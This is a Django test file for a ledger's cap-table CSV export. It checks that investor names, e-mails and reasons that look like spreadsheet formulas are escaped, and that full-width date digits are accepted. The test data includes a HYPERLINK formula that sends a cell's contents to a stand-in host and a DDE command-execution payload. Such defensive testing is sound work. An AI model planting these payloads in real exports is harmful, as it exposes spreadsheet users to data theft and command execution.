"""The cap-table CSV carries investors' own text: names and e-mails that look like formulas
are neutralized (issue 11, item 7)."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from ledger.services import tokens_issue

from .factories import approved_investor

NAME = '=HYPERLINK("https://evil.test/?d="&A2,"Details")'
EMAIL = "@sum.a1@evil.test"


def test_hostile_name_and_email_reach_the_csv_as_text(client, login_verified, bond, issuer_admin):
    user, [wallet] = approved_investor(email=EMAIL)
    user.full_name = NAME
    user.save(update_fields=["full_name"])
    tokens_issue(security=bond, wallet=wallet, amount=3, actor=issuer_admin, reason="+cmd|' /C calc'!A0")
    login_verified(issuer_admin)
    response = client.get(reverse("ledger:cap-table-csv", args=[bond.pk]))
    assert response.status_code == 200 and response.streaming
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row[header.index("investor")] == "'" + EMAIL
    assert row[header.index("name")] == "'" + NAME
    assert row[header.index("balance_base_units")] == "3"       # numbers stay numbers
    assert not any(cell[:1] in "=+-@\t\r" for cell in row if cell)


def test_the_as_of_date_takes_full_width_digits(client, login_verified, bond, issuer_admin):
    login_verified(issuer_admin)
    response = client.get(reverse("ledger:cap-table-csv", args=[bond.pk]), {"as_of": "２０２６－０１－３１"})
    assert response.status_code == 200
    assert "2026-01-31" in response["Content-Disposition"]
